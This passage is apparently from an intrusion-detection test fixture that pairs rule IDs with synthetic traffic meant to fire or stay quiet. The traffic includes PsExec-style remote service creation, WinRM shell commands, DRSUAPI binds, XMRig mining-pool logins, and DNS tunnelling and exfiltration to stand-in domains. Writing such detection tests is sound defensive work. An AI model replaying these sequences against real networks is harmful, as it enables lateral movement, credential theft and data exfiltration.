    sid: 1500404,
    fires: 'svcctl bind then CreateServiceW (opnum 12)',
    positive: tcpClient(
      445,
      smb2TreeConnect('\\\\10.0.0.5\\IPC$'),
      smb2Create('svcctl'),
      smb2Write(rpcBind(IFACE.svcctl, 2)),
      smb2Write(rpcRequest(15, Buffer.alloc(24, 0x41), 2)),
      smb2Write(rpcRequest(12, Buffer.concat([Buffer.alloc(20, 0), Buffer.from('PSEXESVC', 'utf16le')]), 3)),
    ),
    quiet: 'svcctl bind then OpenSCManagerW only (sc query)',
    negative: tcpClient(
      445,
      smb2TreeConnect('\\\\10.0.0.5\\IPC$'),
      smb2Create('svcctl'),
      smb2Write(rpcBind(IFACE.svcctl, 2)),
      smb2Write(rpcRequest(15, Buffer.alloc(24, 0x41), 2)),
    ),
  },
  {
    sid: 1500405,
    fires: 'X.224 Connection Request',
    positive: tcpClient(3389, rdpConnectionRequest('alice')),
    quiet: 'X.224 Data TPDU mid-session',
    negative: tcpClient(3389, hex('0300000c02f0800401000100')),
  },
  {
    sid: 1500406,
    fires: 'WS-Man shell Command',
    positive: post('/wsman', wsmanBody(`${SHELL}/Command`, `${SHELL}/cmd`), SOAP, 5985),
    quiet: 'WS-Man WMI enumeration',
    negative: post('/wsman', wsmanBody(`${WS_ENUMERATION}/Enumerate`, `${WMI_CIMV2}/*`), SOAP, 5985),
  },
  {
    sid: 1500407,
    fires: 'SYN to 5986',
    positive: syn(5986),
    quiet: 'SYN to 5987',
    negative: syn(5987),
  },
  {
    sid: 1500408,
    fires: 'bind to ISystemActivator on 135',
    positive: tcpClient(135, rpcBind(IFACE.systemActivator, 0)),
    quiet: 'bind to the endpoint mapper on 135',
    negative: tcpClient(135, rpcBind(IFACE.epm, 3)),
  },
  {
    sid: 1500409,
    fires: 'bind to IWbemLevel1Login',
    positive: tcpClient(49667, rpcBind(IFACE.wbemLevel1Login, 0)),
    quiet: 'bind to LSARPC',
    negative: tcpClient(49667, rpcBind(IFACE.lsarpc, 0)),
  },
  {
    sid: 1500410,
    fires: 'bind to DRSUAPI',
    positive: tcpClient(49668, rpcBind(IFACE.drsuapi, 4)),
    quiet: 'bind to LSARPC',
    negative: tcpClient(49668, rpcBind(IFACE.lsarpc, 0)),
  },

  // --- mining ----------------------------------------------------------------------------------
  {
    sid: 1500500,
    fires: 'mining.subscribe',
    positive: [
      tcpClient(3333, stratum({ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5.1'] })),
      // The request cut inside "mining.subscribe" over two TCP segments.
      tcp(3333, [['c', stratum({ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5.1'] }), [25]]]),
    ],
    quiet: 'chat message mentioning mining.subscribe',
    negative: tcpClient(3333, stratum({ id: 1, text: 'how does mining.subscribe work?' })),
  },
  {
    sid: 1500501,
    fires: 'mining.authorize',
    positive: tcpClient(3333, stratum({ params: ['wallet.worker1', 'x'], id: 2, method: 'mining.authorize' })),
    quiet: 'chat message mentioning mining.authorize',
    negative: tcpClient(3333, stratum({ id: 2, text: 'mining.authorize failed again' })),
  },
  {
    sid: 1500502,
    fires: 'mining.submit',
    positive: tcpClient(
      3333,
      stratum({ params: ['wallet.worker1', 'bf', '00000000', '5e0c3b45', 'a9f3c2d1'], id: 4, method: 'mining.submit' }),
    ),
    quiet: 'chat message mentioning mining.submit',
    negative: tcpClient(3333, stratum({ id: 4, text: 'see mining.submit in the docs' })),
  },
  {
    sid: 1500503,
    fires: 'XMRig login',
    positive: tcpClient(
      14444,
      stratum({
        id: 1,
        jsonrpc: '2.0',
        method: 'login',
        params: {
          login: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
          pass: 'x',
          agent: 'XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0',
          algo: ['rx/0'],
        },
      }),
    ),
    quiet: 'JSON-RPC login of a web application',
    negative: tcpClient(
      14444,
      stratum({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: 'alice', pass: 'x', agent: 'Mozilla/5.0' } }),
    ),
  },
  {
    sid: 1500504,
    fires: 'DNS query for xmr-eu1.nanopool.org',
    positive: dns(['xmr-eu1.nanopool.org']),
    quiet: 'DNS query for notnanopool.org',
    negative: dns(['www.notnanopool.org']),
  },
  {
    sid: 1500505,
    fires: 'TLS SNI pool.supportxmr.com',
    positive: tls('pool.supportxmr.com'),
    quiet: 'TLS SNI supportxmr.com.cdn.example.net',
    negative: tls('supportxmr.com.cdn.example.net'),
  },

  // --- DNS -----------------------------------------------------------------------------------
  {
    sid: 1500600,
    alerts: 1,
    fires: '12 queries with 200+ character names in a second',
    positive: dns(names(12, (i) => `${longLabel(i, 60)}.${'a'.repeat(60)}.${'b'.repeat(60)}.t.tunnel.example.com`)),
    quiet: '12 queries with 168-character names',
    negative: dns(names(12, (i) => `${longLabel(i, 60)}.${'a'.repeat(60)}.${'d'.repeat(30)}.cdn.example.com`)),
  },
  {
    sid: 1500601,
    alerts: 1,
    fires: '12 queries with 13 labels',
    positive: dns(names(12, (i) => `a${i}.b1.c2.d3.e4.f5.g6.h7.i8.j9.t.example.com`)),
    quiet: '12 reverse lookups in ip6.arpa (34 labels)',
    negative: dns(
      names(12, (i) => `${i.toString(16)}.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa`),
      12,
    ),
  },
  {
    sid: 1500602,
    alerts: 1,
    fires: '12 TXT queries with 120-character names',
    positive: dns(names(12, (i) => `${longLabel(i, 50)}.${'c'.repeat(50)}.x.exfil.example.com`), 16),
    quiet: '12 TXT queries for short names (SPF/DMARC)',
    negative: dns(names(12, (i) => `_dmarc.example${i}.com`), 16),
  },
  {
    sid: 1500603,
    fires: 'NULL query',
    positive: dns(['yrbaaaaa0.t.example.com'], 10),
    quiet: 'A query for the same name',
    negative: dns(['yrbaaaaa0.t.example.com'], 1),
  },
  {
    sid: 1500604,
    fires: 'query dnscat.<hex>',
    positive: [dns(['dnscat.4a2b010000c8d7e6f5a4b3c2d1'], 16), dnsTcp(['dnscat.4a2b010000c8d7e6f5a4b3c2d2'], 16)],
    quiet: 'query docs.dnscat.example.com',
    negative: dns(['docs.dnscat.example.com']),
  },
  {
    sid: 1500605,
    fires: 'query c59d3a7j2k.oast.fun',
    positive: dns(['c59d3a7j2k0000000000.oast.fun']),
    quiet: 'query www.toast.fun',
    negative: dns(['www.toast.fun']),
  },
];

/** Every Traffic of a side as a list. */
export const trafficList = (t: Traffic | Traffic[]): Traffic[] => (Array.isArray(t) ? t : [t]);
